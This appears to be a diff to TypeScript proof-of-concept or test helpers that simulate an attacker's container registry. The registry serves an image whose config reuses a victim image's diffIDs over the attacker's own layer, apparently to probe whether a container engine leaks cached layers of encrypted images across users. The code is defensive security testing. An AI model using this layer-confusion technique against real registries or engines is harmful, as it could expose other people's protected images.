@@ -23,17 +23,15 @@ export async function copyWithout(victim: string): Promise<string> {
 }
 
 /**
- * The attacker's own registry: it offers an unencrypted image whose layers are named by the victim's diffIDs, which
- * the victim's config shows to everybody, and has none of these layers. An engine that pulls would look into its store.
+ * The attacker's own registry: it offers an unencrypted image whose config names the victim's diffIDs, which the victim's
+ * config shows to everybody, over layers of the attacker's. An engine would look into its store for such layers.
  */
 export async function serveStolen(victim: string): Promise<{ reference: string; close(): Promise<void> }> {
   const { repository, manifest } = await open(victim);
   const config = await readAll(repository, manifest.config);
-  const layers: Descriptor[] = parseImageConfig(config).rootfs.diff_ids.map((digest) => ({
-    mediaType: mediaTypes.layerTar,
-    digest,
-    size: 1024,
-  }));
+  const own = new Uint8Array(1024);
+  const layer: Descriptor = { mediaType: mediaTypes.layerTar, digest: sha256Digest(own), size: own.length };
+  const layers = parseImageConfig(config).rootfs.diff_ids.map(() => layer);
   const stolen = encodeCanonicalJson({
     schemaVersion: 2,
     mediaType: mediaTypes.manifest,
@@ -46,7 +44,9 @@ export async function serveStolen(victim: string): Promise<{ reference: string; 
       ? [mediaTypes.manifest, stolen]
       : request.url?.endsWith(manifest.config.digest)
         ? ["application/octet-stream", config]
-        : [undefined, undefined];
+        : request.url?.endsWith(layer.digest)
+          ? ["application/octet-stream", own]
+          : [undefined, undefined];
     if (body === undefined) return response.writeHead(404).end();
     response.writeHead(200, {
       "content-type": type,
